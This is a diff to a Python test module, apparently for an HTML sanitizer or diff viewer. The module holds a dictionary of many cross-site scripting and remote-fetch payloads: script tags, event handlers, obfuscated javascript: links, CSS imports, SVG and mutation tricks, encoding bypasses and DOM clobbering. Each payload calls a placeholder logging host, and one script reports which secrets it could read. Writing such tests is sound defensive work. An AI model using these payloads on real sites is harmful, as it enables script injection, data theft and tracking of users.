@@ -1,6 +1,7 @@
-"""Pages that try to act where they are shown. TRAP is an address that counts who asks; RUN is a script.
+"""Hostile pages that try to act where they are shown.
 
-RUN tells the console that it ran and what secrets it could read, and calls the trap.
+TRAP is an address that logs requests. RUN is a script that writes to the console that it ran and which
+secrets it could read, and calls the trap.
 """
 
 from __future__ import annotations
@@ -15,7 +16,7 @@ ATTRIBUTE = RUN.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&#39;
 ENTITIES = "".join(f"&#{ord(sign)};" for sign in "javascript:") + ATTRIBUTE
 
 PAYLOADS: dict[str, str] = {
-    # Scripts.
+    # Scripts
     "script": f"<script>{RUN}</script>",
     "script from elsewhere": "<script src='TRAP/a.js'></script>",
     "script as a module": "<script type=module>import 'TRAP/m.js'</script>",
@@ -29,7 +30,7 @@ PAYLOADS: dict[str, str] = {
     "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]><svg><![CDATA[</svg><script>{RUN}</script>]]></svg>",
     "script in a processing instruction": f"<?xml ?><?x <script>{RUN}</script>?>",
     "import map": '<script type=importmap>{"imports":{"x":"TRAP/x.js"}}</script>',
-    # Event handlers.
+    # Event handlers
     "onerror": f'<img src=x: onerror="{ATTRIBUTE}">',
     "onload of a picture": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{ATTRIBUTE}">',
     "onload of the body": f'<body onload="{ATTRIBUTE}" onpageshow="{ATTRIBUTE}"><p>x</p>',
@@ -40,7 +41,7 @@ PAYLOADS: dict[str, str] = {
     "quote in a name": f'<p "onmouseover=x" onpointerenter="{ATTRIBUTE}">x</p><img title="`\'&quot;>" src=x: onerror="{ATTRIBUTE}">',
     "handler in a data attribute": f'<p data-x="&quot; onclick=&quot;{ATTRIBUTE}">x</p>',
     "marquee and media": f'<marquee onstart="{ATTRIBUTE}">m</marquee><video onerror="{ATTRIBUTE}" src=x:><source onerror="{ATTRIBUTE}">',
-    # Addresses that run or lead.
+    # Addresses that run a script or lead away
     "javascript link": f'<a href="javascript:{ATTRIBUTE}" id=x>click</a><iframe src="javascript:{ATTRIBUTE}"></iframe>',
     "javascript link in entities": f'<a href="{ENTITIES}">x</a><iframe src="{ENTITIES}"></iframe>',
     "javascript link with white space": f'<a href="java\tscript:{ATTRIBUTE}">x</a><iframe src=" java\nscript:{ATTRIBUTE}"></iframe>',
@@ -54,7 +55,7 @@ PAYLOADS: dict[str, str] = {
     "form that sends itself": f"<form action=TRAP/form id=f><input name=q value=secret></form><script>{RUN};f.submit()</script>",
     "form with a button elsewhere": "<form id=g></form><button form=g formaction=TRAP/g autofocus>x</button>",
     "ping": '<a href="#" ping="TRAP/ping">x</a><area ping=TRAP/area href=#>',
-    # Things that are fetched.
+    # Elements that fetch something
     "picture": '<img src="TRAP/i.png"><img srcset="TRAP/s.png 1x, TRAP/t.png 2x"><picture><source srcset=TRAP/u.png><img></picture>',
     "lazy picture": '<img data-src="TRAP/lazy.png" loading=lazy><input type=image src=TRAP/in.png>',
     "old pictures": "<body background=TRAP/bg.png><table background=TRAP/t.png><tr><td background=TRAP/td.png>x</table>",
@@ -66,7 +67,7 @@ PAYLOADS: dict[str, str] = {
     "links in the body": "<p><link rel=dns-prefetch href=//TRAPHOST><link rel=preconnect href=TRAP><link rel=prerender href=TRAP/r></p>",
     "icons, manifests, modules": "<link rel=icon href=TRAP/ico><link rel=manifest href=TRAP/man><link rel=modulepreload href=TRAP/mod>",
     "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["TRAP/spec"]}]}</script>',
-    # Style.
+    # Style sheets
     "style that fetches": "<style>p{background:url(TRAP/bg)}</style><p style='background:url(TRAP/inline)'>x</p>",
     "style that imports": "<style>@import 'TRAP/i1';@import url(TRAP/i2);</style><style>@charset 'x';@import \"TRAP/i3\"</style>",
     "style with escapes": "<style>@\\69mport 'TRAP/e1';p{background:\\75\\72\\6c(TRAP/e2);b\\61ckground:u\\rl(TRAP/e3)}</style><p>x</p>",
@@ -82,7 +83,7 @@ PAYLOADS: dict[str, str] = {
     "style with old tricks": f"<p style='behavior:url(TRAP/htc);-moz-binding:url(TRAP/xbl);width:expression({RUN.replace(chr(39), '')})'>x</p>",
     "style that hides our marks": "<style>*{display:none!important}ins,del{display:none!important}.wv-flag{background:url(TRAP/h)}</style><p>x</p>",
     "style that covers everything": "<style>body::before{content:'';position:fixed;inset:0;z-index:2147483647;background:url(TRAP/o) red}</style><p>x</p>",
-    # Other namespaces, and trees that change when they are written and read again.
+    # Other namespaces, and trees that change when they are written and parsed again
     "svg script": f"<svg><script>{RUN}</script><script href=TRAP/svg.js></script></svg>",
     "svg handlers and pictures": f'<svg onload="{ATTRIBUTE}"><image href=TRAP/si /><use href="TRAP/u#x"/><animate onbegin="{ATTRIBUTE}" attributeName=x></svg>',
     "svg that animates a link": f'<svg><a><animate attributeName=href values="javascript:{ATTRIBUTE}"/><text>x</text></a></svg>',
@@ -99,12 +100,12 @@ PAYLOADS: dict[str, str] = {
     "mutation by a table": f'<table><a><tr><td><script>{RUN}</script></a><img src=x: onerror="{ATTRIBUTE}"></table>',
     "plain text, listings": f'<xmp><script>{RUN}</script></xmp><listing><img src=x: onerror="{ATTRIBUTE}"></listing><plaintext><script>{RUN}</script>',
     "raw text": f'<noembed><script>{RUN}</script></noembed><noframes><img src=x: onerror="{ATTRIBUTE}"></noframes>',
-    # Encodings.
+    # Encodings
     "text that is markup twice": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x: onerror={RUN}&amp;gt;",
     "other encoding": f"<meta charset=utf-7><p>+ADw-script+AD4-{RUN}+ADw-/script+AD4-</p>",
     "encoding with escapes": f"<meta charset=iso-2022-jp><p title='\x1b$B'><img src=x: onerror=\"{ATTRIBUTE}\">\x1b(B</p>",
     "wide signs": f'＜script＞{RUN}＜/script＞ \u2028<img src=x: onerror="{ATTRIBUTE}">\u2029',
-    # Names that stand for ours.
+    # Names that imitate ours
     "names of our own": "<p id=wv-c1 class=wv-flag data-wv=1 data-wv-alt='x'>x</p><ins class=wv-here id=wv-c2>y</ins><b data-number=1 id=changes>z</b>",
     "names of functions": "".join(
         f"<img name={name} id={name}><form name={name}><input id={name} name={name}></form>"
